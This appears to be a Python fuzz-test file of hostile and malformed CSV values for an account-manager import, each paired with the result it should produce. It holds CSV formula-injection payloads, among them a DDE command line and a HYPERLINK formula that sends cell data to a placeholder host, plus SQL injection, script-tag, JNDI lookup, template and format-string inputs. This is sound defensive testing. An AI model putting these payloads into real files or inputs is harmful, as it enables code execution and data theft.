"""Values that spreadsheets run, that look like others, or that are invisible."""

from __future__ import annotations

from tests.fuzz.nasty import GOOD, SAME, WHO, Nasty, of, text
from tests.fuzz.world import AMINA, BARAKA, GERMAN

_WIDE = b"account ID,account Manager,note\r\n"
_FORMULAS = {
    "equals": "=1+1",
    "plus": "+254700000000",
    "minus": "-5+2",
    "at": "@SUM(A1)",
    "tab": "\t=1",
    "bar": "|calc",
    "percent": "%0A=1",
    "guarded": "'=1+1",
    "guarded-twice": "''=1+1",
    "link": '=HYPERLINK("http://x.example?"&A1)',
    "dde": "=cmd|' /C calc'!A0",
    "full-width-equals": "\uff1d1+1",
    "quoted-equals": '"=1+1"',
}


def _formulas() -> list[Nasty]:
    """Formulas in the note of good and bad lines, and as the address."""
    found = []
    for name, formula in _FORMULAS.items():
        cell = '"' + formula.replace('"', '""') + '"'
        lines = (GOOD + b"," + cell.encode(), b"K002,nobody," + cell.encode())
        found.append(
            Nasty(f"formula-{name}-in-a-note", of(*lines, head=_WIDE), "updated USER_NOT_FOUND")
        )
        found.append(Nasty(f"formula-{name}-as-an-address", text(f"K001,{cell}"), "USER_NOT_FOUND"))
    return found


def _controls() -> list[Nasty]:
    """Each control character in each column; tabs and line ends within quotes are text."""
    found = []
    for code in (*range(1, 9), 0x0B, 0x0C, *range(0x0E, 0x20), 0x7F):
        sign = bytes([code])
        lines = (
            b"K" + sign + b"1," + WHO + b",x",
            b"K001,a" + sign + b"b,x",
            GOOD + b",a" + sign + b"b",
            *[SAME + b",plain text that makes the file look like text"] * 10,
        )
        found.append(
            Nasty(
                f"control-{code:02x}-in-every-column",
                of(*lines, head=_WIDE),
                "INVALID_CHARACTER*3 unchanged duplicate*9",
            )
        )
    return found


NASTIES = [
    *_formulas(),
    *_controls(),
    Nasty("nul-in-the-head", of(b"K\x00001," + WHO, SAME), "refused NOT_CSV"),
    Nasty(
        "nul-behind-the-head",
        of(*[SAME] * 2200, b"K\x00001," + WHO),
        "unchanged duplicate*2199 INVALID_CHARACTER",
    ),
    Nasty("tab-in-a-note", _WIDE + GOOD + b',"a\tb"', "updated"),
    Nasty("tab-in-an-id", of(b"K\t001," + WHO), "INVALID_CHARACTER"),
    Nasty(
        "escape-sequences",
        of(b"K001,\x1b[31mred\x1b[0m", *[SAME] * 20),
        "INVALID_CHARACTER unchanged duplicate*19",
    ),
    Nasty("id-formula-that-exists", of(b"=K001," + WHO), "updated"),
    Nasty("id-minus-that-exists", of(b"-5," + WHO), "unchanged"),
    Nasty("id-guard-that-exists", of(b"'=K001," + WHO, b"=K001," + WHO), "updated*2"),
    Nasty("id-leading-zeros", of(b"000117," + WHO, b"117," + WHO), "updated*2"),
    Nasty("id-leading-zeros-eaten", of(b"0117," + WHO), "ACCOUNT_NOT_FOUND"),
    Nasty("id-exponent", of(b"1.2E+11," + WHO, b"120000000000," + WHO), "unchanged updated"),
    Nasty("id-exponent-with-a-comma", of(b'"1,2E+11",' + WHO), "ACCOUNT_NOT_FOUND"),
    Nasty("id-as-a-date", of(b"01/03/2026," + WHO), "ACCOUNT_NOT_FOUND"),
    Nasty("id-with-a-number-sign", of(b"a#b," + WHO), "unchanged"),
    Nasty(
        "id-of-another-tenant",
        of(b"other#K001," + WHO, b"lumina#K001," + WHO),
        "ACCOUNT_NOT_FOUND*2",
    ),
    Nasty("id-with-slashes", of(b"a/b\\c," + WHO), "updated"),
    Nasty("id-with-a-path", of(b"../../K001," + WHO), "ACCOUNT_NOT_FOUND"),
    Nasty("id-with-quotes", of(b'"say ""K""",' + WHO), "updated"),
    Nasty("id-with-a-space-within", of(b"K 1," + WHO), "unchanged"),
    Nasty("id-with-spaces-around", of(b"  K001  ," + WHO), "updated"),
    Nasty("id-with-no-break-spaces-around", text(f"\u00a0K001\u2003,{AMINA}"), "updated"),
    Nasty(
        "id-with-zero-width-signs",
        text(f"K\u200b001,{AMINA}", f"\ufeffK001,{AMINA}"),
        "ACCOUNT_NOT_FOUND*2",
    ),
    Nasty("id-in-another-case", of(b"k001," + WHO, b"K001," + WHO), "updated*2"),
    Nasty("id-look-alike", text(f"\u041a001,{AMINA}", f"K001,{AMINA}"), "unchanged updated"),
    Nasty("id-full-width", text(f"\uff2b001,{AMINA}"), "ACCOUNT_NOT_FOUND"),
    Nasty("id-from-right-to-left", text(f"\u202e100K,{AMINA}"), "ACCOUNT_NOT_FOUND"),
    Nasty(
        "id-that-is-a-picture-of-a-control",
        text(f"␛,{AMINA}", f"␛␛,{AMINA}", f"␀,{AMINA}"),
        "updated ACCOUNT_NOT_FOUND*2",
    ),
    Nasty(
        "id-that-looks-like-our-sign-of-a-malformed-line",
        text(f'"␛""K001",{AMINA}'),
        "ACCOUNT_NOT_FOUND",
    ),
    Nasty("id-that-is-a-query", text(f"K001' OR '1'='1,{AMINA}"), "ACCOUNT_NOT_FOUND"),
    Nasty("id-that-is-markup", text(f"<script>alert(1)</script>,{AMINA}"), "ACCOUNT_NOT_FOUND"),
    Nasty(
        "id-that-is-a-template",
        text(f"${{jndi:ldap://x}},{AMINA}", f"{{{{7*7}}}},{AMINA}", f"%s%n,{AMINA}"),
        "ACCOUNT_NOT_FOUND*3",
    ),
    Nasty(
        "id-that-python-knows",
        text(f"None,{AMINA}", f"__class__,{AMINA}", f"nan,{AMINA}"),
        "ACCOUNT_NOT_FOUND*3",
    ),
    Nasty("id-blank-and-manager-blank", of(b",", SAME), "unchanged"),
    Nasty("address-with-a-plus", text(f"K001,{BARAKA}"), "updated"),
    Nasty("address-with-a-quote", text("K001,o'brien@lumina.example"), "updated"),
    Nasty(
        "address-with-a-quoted-name",
        text('K001,"""amina otieno""@lumina.example"'),
        "USER_NOT_FOUND",
    ),
    Nasty("address-with-a-display-name", text(f"K001,Amina Otieno <{AMINA}>"), "USER_NOT_FOUND"),
    Nasty("address-as-a-link", text(f"K001,mailto:{AMINA}"), "USER_NOT_FOUND"),
    Nasty(
        "address-international",
        text("K001,jörg.weiß@lumina.example", "K002,amina@xn--bcher-kva.example"),
        "updated USER_NOT_FOUND",
    ),
    Nasty(
        "address-with-ss-for-a-sharp-s", text("K001,jörg.weiss@lumina.example"), "USER_NOT_FOUND"
    ),
    Nasty("address-in-capitals-with-a-sharp-s", text(f"K001,{GERMAN.upper()}"), "USER_NOT_FOUND"),
    Nasty("address-with-a-capital-sharp-s", text("K001,JÖRG.WEIẞ@LUMINA.EXAMPLE"), "updated"),
    Nasty(
        "address-with-a-dot-of-east-asia", text("K001,amina.otieno@lumina\u3002example"), "updated"
    ),
    Nasty("address-in-another-domain", text("K001,amina.otieno@lumina.eχample"), "USER_NOT_FOUND"),
    Nasty("address-in-capitals", text(f"K001,{AMINA.upper()}"), "updated"),
    Nasty(
        "address-full-width",
        text("K001," + "".join(chr(ord(letter) + 0xFEE0) for letter in AMINA)),
        "updated",
    ),
    Nasty("address-with-a-ligature", text("K001,a\ufb01x@lumina.example"), "USER_NOT_FOUND"),
    Nasty("address-look-alike", text(f"K001,\u0430{AMINA[1:]}"), "USER_NOT_FOUND"),
    Nasty("address-with-a-zero-width-sign", text(f"K001,{AMINA}\u200b"), "USER_NOT_FOUND"),
    Nasty("address-with-a-soft-hyphen", text(f"K001,ami\u00ad{AMINA[3:]}"), "USER_NOT_FOUND"),
    Nasty("address-reversed", text(f"K001,\u202e{AMINA[::-1]}"), "USER_NOT_FOUND"),
    Nasty("address-with-a-turkish-i", text(f"K001,am\u0131{AMINA[3:]}"), "USER_NOT_FOUND"),
    Nasty(
        "address-with-a-comma-for-a-dot",
        text('K001,"amina,otieno@lumina.example"'),
        "USER_NOT_FOUND",
    ),
    Nasty("two-addresses-in-a-cell", text(f"K001,{AMINA};{BARAKA}"), "USER_NOT_FOUND"),
    Nasty("none-in-every-case", of(b"K000,None", b"K006,NONE", b"K009, none "), "cleared*3"),
    Nasty(
        "other-words-for-nobody",
        of(b"K000,null", b"K006,n/a", b"K009,-", b"K012,#N/A"),
        "USER_NOT_FOUND*4",
    ),
    Nasty("none-look-alike", text("K000,N\u043ene"), "USER_NOT_FOUND"),
    Nasty("none-full-width", text("K000,\uff2eone"), "USER_NOT_FOUND"),
    Nasty("blank-of-no-break-space", text("K000,\u00a0"), "cleared"),
    Nasty("blank-of-a-zero-width-sign", text("K000,\u200b"), "USER_NOT_FOUND"),
    Nasty("manager-of-another-opco", of(b"K001,didier.koffi@lumina.example"), "OTHER_OPCO"),
    Nasty("manager-inactive", of(b"K001,gina.gone@lumina.example"), "USER_INACTIVE"),
    Nasty("manager-without-the-role", of(b"K001,carl.clerk@lumina.example"), "USER_ROLE"),
    Nasty(
        "errors-of-a-spreadsheet",
        of(b"#REF!," + WHO, b"#NAME?," + WHO, b"#DIV/0!," + WHO),
        "ACCOUNT_NOT_FOUND*3",
    ),
    Nasty("thousand-combining-marks", text("K001,a" + "\u0301" * 1000), "USER_NOT_FOUND"),
    Nasty(
        "family-of-emoji", text("K001,\U0001f468\u200d\U0001f469\u200d\U0001f467"), "USER_NOT_FOUND"
    ),
    Nasty("identical-lines", of(GOOD, GOOD, GOOD), "updated duplicate*2"),
    Nasty("conflicting-lines", of(GOOD, b"K001,None", SAME), "DUPLICATE_CONFLICT*2 unchanged"),
    Nasty("conflict-of-three", of(GOOD, GOOD, b"K001,None"), "DUPLICATE_CONFLICT*3"),
    Nasty(
        "identical-but-for-case-and-spaces",
        text(f"K001,{AMINA}", f" K001 ,{AMINA.upper()} "),
        "updated duplicate",
    ),
    Nasty("identical-but-quoted", of(GOOD, b'"K001","' + WHO + b'"'), "updated duplicate"),
    Nasty(
        "identical-but-for-the-note", _WIDE + GOOD + b",a\r\n" + GOOD + b",b", "updated duplicate"
    ),
    Nasty("blank-and-none-are-identical", of(b"K000,", b"K000,None"), "cleared duplicate"),
    Nasty("different-case-is-another-account", of(GOOD, b"k001,None"), "updated unchanged"),
    Nasty(
        "a-wrong-line-is-nobodys-duplicate",
        of(b"K001,x,y", GOOD, b'"K001"z,x'),
        "FIELD_COUNT updated INVALID_CHARACTER",
    ),
    Nasty(
        "unknown-account-twice",
        of(b"nothing," + WHO, b"nothing," + WHO),
        "ACCOUNT_NOT_FOUND duplicate",
    ),
    Nasty("blank-ids-are-no-duplicates", of(b"," + WHO, b" ," + WHO), "ACCOUNT_BLANK*2"),
    Nasty(
        "repeats-first-applies", of(GOOD, b"K001,None", GOOD), "updated duplicate*2", "lists-first"
    ),
    Nasty("repeats-last-applies", of(b"K001,None", GOOD), "duplicate updated", "keep-last"),
    Nasty(
        "list-in-another-order-is-identical",
        b"account ID,account Manager,viewers\r\nK001,None,a;b\r\nK001,None,b;a",
        "USER_NOT_FOUND duplicate",
        "lists-first",
    ),
]
